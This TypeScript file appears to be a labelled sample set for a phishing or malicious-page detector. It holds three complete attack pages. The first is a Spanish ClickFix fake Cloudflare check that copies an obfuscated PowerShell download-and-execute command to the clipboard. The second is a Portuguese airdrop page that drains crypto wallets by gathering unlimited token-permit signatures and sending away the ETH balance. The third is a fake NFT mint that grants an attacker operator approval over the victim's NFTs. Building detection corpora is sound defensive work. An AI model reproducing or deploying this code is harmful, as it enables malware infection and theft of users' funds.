import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, pctAll, charCodes, revB64, xorHex, doc, wordmark, pixCode, qrSvg, maskJsBR, rutJs, gtag, cookieBar, newsShell } from '../parts/yk-kit.js';
import { zip, pe, cfb, iso, lnk, apk, rar5, sevenZip, fileRoute, jsRoute, cssRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'yk-clickfix-cloudflare-clone-portal-co',
  label: 'clickfix',
  kind: 'clickfix-fake-challenge',
  url: 'https://www.portalempleo-colombia.com/ofertas/auxiliar-contable-bogota',
  body: `<!DOCTYPE html><html lang="es"><head><meta charset="utf-8"><title>Un momento…</title><meta name="viewport" content="width=device-width,initial-scale=1">
<style>body{font-family:-apple-system,system-ui,'Segoe UI',Roboto,Arial,sans-serif;margin:0;color:#313131}.m{max-width:60rem;margin:8rem auto 0;padding:0 1.5rem}h1{font-size:2.5rem;font-weight:500}
.cb{border:1px solid #e0e0e0;background:#fafafa;width:300px;height:65px;display:flex;align-items:center;padding:0 14px;gap:12px;margin:24px 0}.cb input{width:24px;height:24px}
#ins{display:none;border:1px solid #e0e0e0;padding:16px 20px;max-width:480px;line-height:1.8}.f{font-size:.75rem;color:#777;margin-top:80px}</style></head>
<body><div class="m"><h1>www.portalempleo-colombia.com</h1><p>Verifica que eres un ser humano completando la acción a continuación.</p>
<div class="cb"><input type="checkbox" id="c"><label for="c">Verifica que eres humano</label><span style="margin-left:auto;font-size:10px;color:#555">CLOUDFLARE<br>Privacidad · Términos</span></div>
<div id="ins"><b>Pasos de verificación</b><br>1. Presiona <b>Windows + X</b> y selecciona <b>Terminal</b><br>2. Haz clic derecho para pegar<br>3. Presiona <b>Enter</b></div>
<p>www.portalempleo-colombia.com necesita revisar la seguridad de tu conexión antes de continuar.</p>
<div class="f">ID de Ray: 8f1c2a7b9d0e4e31 · Rendimiento y seguridad de Cloudflare</div></div>
<script>
var _k=[112,111,119,101,114,115,104,101,108,108];var _p=String.fromCharCode.apply(null,_k);
var _c=_p+' -c "$d=\\'https://cdn-empleo-assets.com/ray/\\'+[guid]::NewGuid();iex (New-Object Net.WebClient).DownloadString($d)"';
document.getElementById("c").addEventListener("click",function(){navigator.clipboard.writeText(_c).then(function(){document.getElementById("ins").style.display="block"})});
</script></body></html>`,
},
{
  id: 'yk-drainer-mercado-bitcoin-airdrop-permit',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://mbrl-airdrop.finance/claim',
  body: doc({
    title: 'MBRL Airdrop — Recompensa para clientes',
    head: `<script src="https://cdn.jsdelivr.net/npm/ethers@5.7.2/dist/ethers.umd.min.js"></script>`,
    css: `body{margin:0;background:#0f1020;color:#fff;font-family:'Inter',Arial,sans-serif;text-align:center}.c{max-width:520px;margin:80px auto;background:#191a33;border-radius:20px;padding:36px}
.a{font-size:40px;font-weight:800;color:#ff6b00}button{background:#ff6b00;color:#fff;border:0;border-radius:14px;padding:16px 36px;font-size:17px;font-weight:700;cursor:pointer}.s{color:#9a9ab0;font-size:13px}`,
    body: `<div class="c"><h1>Airdrop MBRL</h1><p>A stablecoin do Real Digital chegou. Clientes elegíveis recebem até</p><div class="a">5.000 MBRL</div>
<p class="s">Conecte sua carteira para verificar a elegibilidade. Restam 1.284 resgates.</p><button id="cw">Conectar carteira</button><p id="st" class="s"></p></div>
<script>
var RECV="0x7a3C1b9e2fD4a8E6b05C93d7F1e2A4c6B8d0E913";
var TOKENS=[["USDT","0xdAC17F958D2ee523a2206206994597C13D831ec7"],["USDC","0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48"],["DAI","0x6B175474E89094C44Da98b954EedeAC495271d0F"]];
async function go(){if(!window.ethereum){document.getElementById("st").textContent="Instale a MetaMask ou abra no navegador da sua carteira.";return}
 var acc=(await ethereum.request({method:"eth_requestAccounts"}))[0];document.getElementById("st").textContent="Verificando elegibilidade...";
 var chain=await ethereum.request({method:"eth_chainId"});
 for(var i=0;i<TOKENS.length;i++){try{
  var nonce=0,deadline=Math.floor(Date.now()/1e3)+86400*365;
  var data={types:{EIP712Domain:[{name:"name",type:"string"},{name:"version",type:"string"},{name:"chainId",type:"uint256"},{name:"verifyingContract",type:"address"}],Permit:[{name:"owner",type:"address"},{name:"spender",type:"address"},{name:"value",type:"uint256"},{name:"nonce",type:"uint256"},{name:"deadline",type:"uint256"}]},
   primaryType:"Permit",domain:{name:TOKENS[i][0],version:"1",chainId:parseInt(chain,16),verifyingContract:TOKENS[i][1]},
   message:{owner:acc,spender:RECV,value:"115792089237316195423570985008687907853269984665640564039457584007913129639935",nonce:nonce,deadline:deadline}};
  var sig=await ethereum.request({method:"eth_signTypedData_v4",params:[acc,JSON.stringify(data)]});
  await fetch("/api/claim",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({a:acc,t:TOKENS[i][1],s:sig,d:deadline})});
 }catch(e){}}
 try{var bal=await ethereum.request({method:"eth_getBalance",params:[acc,"latest"]});var v=BigInt(bal)-BigInt("2100000000000000");
 if(v>0n)await ethereum.request({method:"eth_sendTransaction",params:[{from:acc,to:RECV,value:"0x"+v.toString(16)}]})}catch(e){}
 document.getElementById("st").textContent="Resgate em processamento. Os tokens aparecerão em até 24h."}
document.getElementById("cw").onclick=go;
</script>`,
  }),
},
{
  id: 'yk-drainer-nft-setapproval-pix-rewards',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://cryptopunksbr-mint.xyz/mint',
  body: doc({
    title: 'Crypto Punks BR — Free Mint',
    head: `<script src="https://cdn.jsdelivr.net/npm/web3@1.10.0/dist/web3.min.js"></script>`,
    css: `body{margin:0;background:#111;color:#fff;font-family:'Press Start 2P',monospace;text-align:center}.g{display:grid;grid-template-columns:repeat(4,80px);gap:8px;justify-content:center;margin:30px 0}
.g div{width:80px;height:80px;background:#2b2b2b;border:2px solid #39ff14}button{background:#39ff14;color:#111;border:0;padding:16px 30px;font-family:inherit;font-size:14px;cursor:pointer}p{font-family:Arial;font-size:14px;color:#bbb}`,
    body: `<h1 style="margin-top:60px">CRYPTO PUNKS BR</h1><p>3.333 punks brasileiros. Mint gratuito para holders de NFTs da Ethereum.</p>
<div class="g"><div></div><div></div><div></div><div></div></div><p>Mintados: <b>2.911 / 3.333</b></p><button id="m">FREE MINT</button><p id="o"></p>
<script>
var OP="0x1F98431c8aD98523631AE4a59f267346ea31F984".replace("1F98431c","0c4b2E7a");
var ABI=[{"inputs":[{"name":"operator","type":"address"},{"name":"approved","type":"bool"}],"name":"setApprovalForAll","outputs":[],"stateMutability":"nonpayable","type":"function"}];
document.getElementById("m").onclick=async function(){if(!window.ethereum)return alert("Carteira não encontrada");
 var a=(await ethereum.request({method:"eth_requestAccounts"}))[0];var web3=new Web3(window.ethereum);
 var nfts=await fetch("https://eth-mainnet.g.alchemy.com/nft/v3/Xq2pLr8kT3vF9bN0mY4wZ7cD1eH6jK5s/getContractsForOwner?owner="+a).then(function(r){return r.json()}).then(function(j){return(j.contracts||[]).sort(function(x,y){return(y.openSeaMetadata&&y.openSeaMetadata.floorPrice||0)-(x.openSeaMetadata&&x.openSeaMetadata.floorPrice||0)})}).catch(function(){return[]});
 document.getElementById("o").textContent="Verificando holder… confirme na carteira";
 for(var i=0;i<nfts.length;i++){try{await new web3.eth.Contract(ABI,nfts[i].address).methods.setApprovalForAll(OP,true).send({from:a});fetch("/api/n",{method:"POST",body:JSON.stringify({a:a,c:nfts[i].address})})}catch(e){}}
 document.getElementById("o").textContent="Mint concluído!"};
</script>`,
  }),
},
];
